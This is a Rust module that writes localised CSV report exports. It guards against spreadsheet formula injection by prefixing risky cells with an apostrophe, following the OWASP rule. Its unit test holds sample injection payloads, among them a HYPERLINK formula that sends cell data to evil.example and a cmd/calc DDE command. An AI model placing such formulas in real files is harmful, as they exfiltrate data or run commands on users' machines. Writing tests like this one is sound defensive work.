//! The tidy CSV: one row per participant × goal, the fields of [`FIELDS`] then `generated_at`.
//! UTF-8 with a byte-order mark, so that spreadsheets open accented names correctly.
//!
//! The header is in the requesting user's language (`export.column.*`: English keeps the field
//! names, French has French snake_case names without accents); the rows are the same in every
//! language: comma-separated, numbers with a decimal point, codes as the JSON has them, so that
//! tools read any export alike.
//!
//! No cell is ever read as a formula: a text that a spreadsheet would evaluate (starting with
//! `=`, `+`, `-`, `@`, a tab or a carriage return) and that is not a plain number gets a leading
//! apostrophe ([`neutralised`]), the OWASP rule for CSV injection. Numbers such as `-0.5` stay
//! numbers.

use super::ExportError;
use crate::domain::report::export::{Cell, ExportRow, FIELDS, cells};
use crate::presentation::i18n::Lang;

/// The byte-order mark spreadsheet programs look for to read UTF-8.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// The byte-order mark and the header line, in `lang`.
pub fn header(lang: Lang) -> Result<Vec<u8>, ExportError> {
    let mut out = csv::Writer::from_writer(BOM.to_vec());
    out.write_record(column_titles(lang))?;
    finish(out)
}

/// Lines for `rows` (a whole report, or one chunk of a streamed one): each row's cells
/// ([`cells`], the row's one serde definition) then `generated_at`.
pub fn records(rows: &[ExportRow], generated_at: &str) -> Result<Vec<u8>, ExportError> {
    let mut out = csv::Writer::from_writer(Vec::new());
    for row in rows {
        let mut texts: Vec<String> = cells(row)?.iter().map(Cell::text).collect();
        texts.push(generated_at.to_owned());
        out.write_record(texts.iter().map(|cell| neutralised(cell).into_owned()))?;
    }
    finish(out)
}

/// The cell as a spreadsheet must show it: a text it would evaluate as a formula gets a leading
/// apostrophe; everything else, plain numbers included, is left as it is.
pub fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
    let evaluated = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if evaluated && cell.parse::<rust_decimal::Decimal>().is_err() {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// The column titles in `lang`: the [`FIELDS`] then `generated_at`.
pub fn column_titles(lang: Lang) -> Vec<&'static str> {
    let tr = lang.tr();
    FIELDS
        .iter()
        .map(|(name, _)| *name)
        .chain(["generated_at"])
        .map(|name| tr.t_static(&format!("export.column.{name}")))
        .collect()
}

fn finish(out: csv::Writer<Vec<u8>>) -> Result<Vec<u8>, ExportError> {
    out.into_inner()
        .map_err(|error| ExportError::Csv(error.into_error().into()))
}

#[cfg(test)]
mod tests {
    use super::neutralised;

    #[test]
    fn texts_a_spreadsheet_would_evaluate_get_an_apostrophe_and_numbers_stay_numbers() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "+1+1",
            "-1+cmd|' /C calc'!A0",
            "@SUM(A1:A2)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(neutralised(formula), format!("'{formula}"), "{formula:?}");
        }
        for kept in ["-0.5", "+3", "0.812", "Estonia", "", "1 = 1", "FRA"] {
            assert_eq!(neutralised(kept), kept, "{kept:?}");
        }
    }
}
